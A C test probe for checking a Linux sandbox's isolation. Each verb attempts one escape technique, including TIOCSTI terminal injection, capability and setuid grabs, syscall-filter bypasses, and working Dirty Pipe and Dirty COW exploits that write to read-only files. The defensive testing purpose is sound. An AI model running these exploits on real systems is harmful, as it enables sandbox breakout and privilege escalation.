/*
 * Escape attempts that a shell cannot make: `probe VERB ARGUMENTS...` makes one. Exits with 0 if it succeeded, 1 if it was
 * refused, 126 if it could not be made, 137 if it was killed for it. Linked statically, and run inside sandboxes.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

enum { GOT = 0, REFUSED = 1, UNKNOWN = 126, KILLED = 137, I386_GETPID = 20, X32_BIT = 0x40000000, SCAN_BYTES = 32 << 20 };

static char waste[1 << 16];
static char **words;

static long number(int at) { return words[at] ? strtol(words[at], NULL, 0) : 0; }
static int got(int condition) { return condition ? GOT : REFUSED; }

/* In a child, for the answer may be a signal, or may change the caller. All arguments are zero, so nothing happens. */
static int in_child(long (*attempt)(void)) {
  int status;
  pid_t pid = fork();
  if (pid < 0) return UNKNOWN;
  if (pid == 0) _exit(attempt() ? 0 : 1);
  if (waitpid(pid, &status, 0) < 0) return UNKNOWN;
  return WIFSIGNALED(status) ? KILLED : got(WEXITSTATUS(status) == 0);
}

/* The filter returns a known errno; any other result comes from the kernel code behind it. */
static long by_number(void) { return syscall(number(0), 0, 0, 0, 0, 0, 0) >= 0 || (errno != ENOSYS && errno != number(1)); }
static long by_x32(void) { return syscall(X32_BIT | number(0), 0, 0, 0, 0, 0, 0) >= 0 || (errno != ENOSYS && errno != number(1)); }
static long by_32_bits(void) {
  long result = -ENOSYS;
#ifdef __x86_64__
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(I386_GETPID), "b"(0) : "memory");
#endif
  return result > 0;
}
static int try_syscall(void) { return in_child(by_number); }
/* Killed is refused for these: there is no other answer to a call that the filter cannot read. */
static int try_x32(void) { return in_child(by_x32) == GOT ? GOT : REFUSED; }
static int try_32_bits(void) { return in_child(by_32_bits) == GOT ? GOT : REFUSED; }

static long by_unshare(void) { return !unshare(number(0)); }
static int try_unshare(void) { return in_child(by_unshare); }
static int try_clone(void) {
  long pid = syscall(SYS_clone, number(0) | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  return got(pid > 0);
}
static int try_setns(void) {
  int file = open(words[0], O_RDONLY);
  return got(file >= 0 && !setns(file, 0));
}
static int try_open(void) {
  int flags = words[1] && words[1][0] == 'w' ? O_WRONLY : O_RDONLY;
  return got(open(words[0], flags | O_NONBLOCK | O_NOCTTY) >= 0);
}
/* Opens and reads: some files can be opened but not read. */
static int try_read(void) {
  int file = open(words[0], O_RDONLY | O_NONBLOCK | O_NOCTTY);
  return got(file >= 0 && read(file, waste, sizeof waste) > 0);
}
static int try_socket(void) { return got(socket(number(0), number(1), number(2)) >= 0); }
static int try_socketpair(void) {
  int pair[2];
  return got(!socketpair(number(0), SOCK_STREAM, 0, pair));
}
static int try_memory_file(void) { return got(memfd_create("x", number(0)) >= 0); }
static int try_pipe(void) {
  int ends[2];
  return got(!pipe2(ends, number(0)));
}
/* An urgent byte over a local socket. */
static int try_urgent(void) {
  int pair[2];
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return UNKNOWN;
  return got(send(pair[0], "!", 1, MSG_OOB) == 1);
}
static int try_option(void) {
  int one = 1, own = socket(AF_INET, SOCK_STREAM, 0);
  if (own < 0) return UNKNOWN;
  return got(!setsockopt(own, number(0), number(1), &one, sizeof one));
}
static int try_descriptors(void) {
  for (int file = 3; file < 4096; file++)
    if (fcntl(file, F_GETFD) >= 0) return GOT;
  return REFUSED;
}
static int try_capabilities(void) {
  struct __user_cap_header_struct header = { _LINUX_CAPABILITY_VERSION_3, 0 };
  struct __user_cap_data_struct data[2] = { { ~0u, ~0u, ~0u }, { ~0u, ~0u, ~0u } };
  return got(!syscall(SYS_capset, &header, data));
}
static int try_prctl(void) { return got(!prctl(number(0), number(1), number(2), number(3), number(4))); }
static int try_setuid(void) { return got(!syscall(SYS_setuid, number(0))); }
static int try_setgroups(void) {
  gid_t group = number(0);
  return got(!syscall(SYS_setgroups, 1, &group));
}
static int try_core_limit(void) {
  struct rlimit wanted = { 1 << 20, 1 << 20 }, found;
  setrlimit(RLIMIT_CORE, &wanted);
  prlimit(0, RLIMIT_CORE, &wanted, NULL);
  return got(!getrlimit(RLIMIT_CORE, &found) && found.rlim_cur > 1);
}
/* By a number of which the kernel reads the lower half only; at 0 it would start the host's program for core files. */
static int try_no_core_limit(void) {
  struct rlimit nothing = { 0, 0 }, found;
  syscall(SYS_setrlimit, 1L << 32 | RLIMIT_CORE, &nothing);
  syscall(SYS_prlimit64, 0, 1L << 32 | RLIMIT_CORE, &nothing, NULL);
  return got(!getrlimit(RLIMIT_CORE, &found) && found.rlim_cur != 1);
}
static int try_raise_limit(void) {
  struct rlimit limit;
  if (getrlimit(number(0), &limit)) return UNKNOWN;
  limit.rlim_max += 1;
  limit.rlim_cur = limit.rlim_max;
  return got(!setrlimit(number(0), &limit));
}
static int try_scheduler(void) {
  struct sched_param parameter = { .sched_priority = number(1) };
  return got(!sched_setscheduler(0, number(0), &parameter));
}
static int try_priority(void) { return got(!setpriority(PRIO_PROCESS, 0, number(0))); }
static int try_huge_pages(void) {
  return got(mmap(NULL, 2 << 20, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB, -1, 0) != MAP_FAILED);
}
static int try_low_memory(void) {
  return got(mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == NULL);
}
/* Types into the terminal of the process that started the sandbox, if it was inherited. */
static int try_terminal(void) {
  for (int file = 0; file < 3; file++)
    if (!ioctl(file, TIOCSTI, "x")) return GOT;
  int terminal = open("/dev/tty", O_RDWR);
  return got(terminal >= 0 && !ioctl(terminal, TIOCSTI, "x"));
}
/* Gives a new terminal the default line discipline. The kernel ignores the upper half of the request. */
static int try_line_discipline(void) {
  int terminal = open("/dev/ptmx", O_RDWR | O_NOCTTY), discipline = 0;
  if (terminal < 0) return UNKNOWN;
  return got(!syscall(SYS_ioctl, terminal, number(0), &discipline));
}
/* Opens as many terminals. */
static int try_terminals(void) {
  for (long left = number(0); left > 0; left--)
    if (open("/dev/ptmx", O_RDWR | O_NOCTTY) < 0) return REFUSED;
  return GOT;
}
/* Hands a descriptor to the reader of the log. */
static int try_pass_descriptor(void) {
  char room[CMSG_SPACE(sizeof(int))] = { 0 }, byte = 'x';
  struct iovec part = { &byte, 1 };
  struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room };
  struct cmsghdr *header = CMSG_FIRSTHDR(&message);
  header->cmsg_level = SOL_SOCKET;
  header->cmsg_type = SCM_RIGHTS;
  header->cmsg_len = CMSG_LEN(sizeof(int));
  for (int file = 0; file < 3; file++)
    if (sendmsg(file, &message, 0) >= 0) return GOT;
  return REFUSED;
}
static socklen_t abstract(struct sockaddr_un *address, const char *name) {
  memset(address, 0, sizeof *address);
  address->sun_family = AF_UNIX;
  strncpy(address->sun_path + 1, name, sizeof address->sun_path - 2);
  return offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
}
static int try_abstract(void) {
  struct sockaddr_un address;
  socklen_t size = abstract(&address, words[0]);
  return got(!connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&address, size));
}
static int try_tcp(void) {
  struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(number(0)), .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
  return got(!connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&address, sizeof address));
}
static int try_shared_memory(void) { return got(shmget(number(0), 0, 0) >= 0); }
static int try_messages(void) { return got(msgget(number(0), 0) >= 0); }
static int try_semaphores(void) { return got(semget(number(0), 0, 0) >= 0); }
static int try_any_shared_memory(void) {
  struct shmid_ds status;
  for (int index = 0; index < 4096; index++)
    if (shmctl(index, SHM_STAT, &status) >= 0) return GOT;
  return REFUSED;
}
static int try_queue(void) { return got(mq_open(words[0], O_RDONLY) != (mqd_t)-1); }
static int try_signal(void) { return got(!kill(number(0), number(1))); }
/* Fresh memory with something of somebody's left in it. */
static int try_used_memory(void) {
  const char *memory = mmap(NULL, SCAN_BYTES, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (memory == MAP_FAILED) return UNKNOWN;
  for (long at = 0; at < SCAN_BYTES; at++)
    if (memory[at]) return GOT;
  return REFUSED;
}
static int try_used_disk(void) {
  int file = open("/workspace/fresh", O_RDWR | O_CREAT | O_TRUNC, 0600);
  if (file < 0 || posix_fallocate(file, 0, 8 << 20)) return UNKNOWN;
  ssize_t count;
  int found = 0;
  while ((count = read(file, waste, sizeof waste)) > 0)
    for (ssize_t at = 0; at < count; at++) found |= waste[at];
  unlink("/workspace/fresh");
  return got(found);
}
/* The pages of a file that may only be read, written through a pipe (CVE-2022-0847). */
static int try_dirty_pipe(void) {
  int file = open(words[0], O_RDONLY), ends[2];
  char before[2], after[2];
  if (file < 0 || pread(file, before, 2, 0) != 2 || pipe(ends)) return UNKNOWN;
  int room = fcntl(ends[1], F_GETPIPE_SZ);
  for (int left = room; left > 0; left -= 4096)
    if (write(ends[1], waste, 4096) < 0) return UNKNOWN;
  for (int left = room; left > 0; left -= 4096)
    if (read(ends[0], waste, 4096) < 0) return UNKNOWN;
  loff_t offset = 0;
  if (splice(file, &offset, ends[1], NULL, 1, 0) < 1) return REFUSED;
  if (write(ends[1], "!", 1) < 0) return REFUSED;
  return got(pread(file, after, 2, 0) == 2 && memcmp(before, after, 2));
}
/* Writes through /proc/self/mem to a private page of a file that may only be read, while it is thrown away (CVE-2016-5195). */
static int try_dirty_cow(void) {
  char before[8], after[8];
  int file = open(words[0], O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
  if (file < 0 || pread(file, before, sizeof before, 0) != sizeof before) return UNKNOWN;
  char *page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  if (page == MAP_FAILED) return UNKNOWN;
  pid_t thrower = fork();
  if (thrower < 0) return UNKNOWN;
  for (int round = 0; round < 20000; round++) {
    if (thrower == 0) madvise(page, 4096, MADV_DONTNEED);
    else if (memory < 0 || pwrite(memory, "!", 1, (off_t)page) < 0) break;
  }
  if (thrower == 0) _exit(0);
  waitpid(thrower, NULL, 0);
  return got(pread(file, after, sizeof after, 0) == sizeof after && memcmp(before, after, sizeof before));
}
/* As a program that its file was to raise to another user or group. */
static int try_raised(void) { return got(geteuid() != getuid() || getegid() != getgid()); }
static int try_queues(void) {
  char name[16];
  int count = 0;
  for (; count < 64; count++) {
    snprintf(name, sizeof name, "/q%d", count);
    if (mq_open(name, O_CREAT | O_RDWR, 0600, NULL) == (mqd_t)-1) break;
  }
  return got(count == 64);
}
static int try_signals_queued(void) {
  sigset_t set;
  union sigval value = { 0 };
  long count = 0;
  sigemptyset(&set);
  sigaddset(&set, SIGRTMIN);
  sigprocmask(SIG_BLOCK, &set, NULL);
  while (count < 4096 && !sigqueue(getpid(), SIGRTMIN, value)) count++;
  return got(count == 4096);
}

/* Things that neighbours look for: a secret in memory, names in every kind of shared place, and a count of signals. */
static volatile sig_atomic_t signals;
static void counted(int signal) { (void)signal; signals++; }
static void lock_shared(const char *path, int command) {
  struct flock lock = { .l_type = F_RDLCK, .l_whence = SEEK_SET };
  int file = open(path, O_RDONLY);
  /* gVisor locks no devices. */
  if (command ? fcntl(file, command, &lock) : flock(file, LOCK_EX)) return;
}
static int be_neighbour(void) {
  long key = number(0);
  char *secret = words[1];
  struct sockaddr_un address;
  socklen_t size = abstract(&address, "sbj-neighbour");
  struct sockaddr_in local = { .sin_family = AF_INET, .sin_port = htons(7777), .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
  for (int number = 1; number < 32; number++)
    if (number != SIGKILL && number != SIGSTOP && number != SIGCHLD) signal(number, counted);
  int segment = shmget(key, 4096, IPC_CREAT | 0666);
  char *shared = segment < 0 ? NULL : shmat(segment, NULL, 0);
  int own = socket(AF_UNIX, SOCK_STREAM, 0), served = socket(AF_INET, SOCK_STREAM, 0);
  int file = open("/dev/shm/sbj-neighbour", O_RDWR | O_CREAT, 0666);
  if (!shared || own < 0 || bind(own, (struct sockaddr *)&address, size) || listen(own, 4)) return UNKNOWN;
  if (bind(served, (struct sockaddr *)&local, sizeof local) || listen(served, 4)) return UNKNOWN;
  if (file < 0 || write(file, secret, strlen(secret)) < 0) return UNKNOWN;
  strcpy(shared, secret);
  msgget(key, IPC_CREAT | 0666);
  semget(key, 1, IPC_CREAT | 0666);
  mq_open("/sbj-neighbour", O_CREAT | O_RDWR, 0666, NULL);
  lock_shared("/dev/null", 0);
  lock_shared("/dev/zero", F_SETLK);
  lock_shared("/dev/full", F_OFD_SETLK);
  lock_shared("/.sandbox/busybox", 0);
  lock_shared("/usr/bin/probe", F_SETLK);
  lock_shared("/proc/meminfo", F_OFD_SETLK);
  puts("ready");
  fflush(stdout);
  /* Wait until the test sends a complete line. */
  char line[4096];
  ssize_t count;
  while ((count = read(0, line, sizeof line)) != 0)
    if (count < 0 ? errno != EINTR : !!memchr(line, '\n', count)) break;
  printf("signals %d\n%s\n", (int)signals, strcmp(shared, secret) ? "changed" : "whole");
  return 0;
}

static const struct { const char *verb; int (*attempt)(void); } attempts[] = {
  { "syscall", try_syscall }, { "x32", try_x32 }, { "int80", try_32_bits }, { "unshare", try_unshare },
  { "clone", try_clone }, { "setns", try_setns }, { "open", try_open }, { "read", try_read },
  { "socket", try_socket }, { "socketpair", try_socketpair }, { "option", try_option },
  { "descriptors", try_descriptors }, { "capabilities", try_capabilities }, { "prctl", try_prctl },
  { "setuid", try_setuid }, { "setgroups", try_setgroups }, { "core-limit", try_core_limit },
  { "no-core-limit", try_no_core_limit },
  { "raise-limit", try_raise_limit }, { "scheduler", try_scheduler }, { "priority", try_priority },
  { "huge-pages", try_huge_pages }, { "memory-file", try_memory_file },
  { "pipe", try_pipe }, { "urgent", try_urgent }, { "low-memory", try_low_memory },
  { "terminal", try_terminal }, { "terminals", try_terminals }, { "line-discipline", try_line_discipline },
  { "pass-descriptor", try_pass_descriptor }, { "abstract", try_abstract }, { "tcp", try_tcp },
  { "shared-memory", try_shared_memory }, { "messages", try_messages },
  { "semaphores", try_semaphores }, { "any-shared-memory", try_any_shared_memory }, { "queue", try_queue },
  { "signal", try_signal }, { "used-memory", try_used_memory }, { "used-disk", try_used_disk },
  { "dirty-pipe", try_dirty_pipe }, { "queues", try_queues }, { "signals-queued", try_signals_queued },
  { "dirty-cow", try_dirty_cow }, { "raised", try_raised }, { "neighbour", be_neighbour },
};

int main(int count, char **arguments) {
  words = arguments + 2;
  for (size_t at = 0; count > 1 && at < sizeof attempts / sizeof *attempts; at++)
    if (!strcmp(arguments[1], attempts[at].verb)) return attempts[at].attempt();
  return UNKNOWN;
}
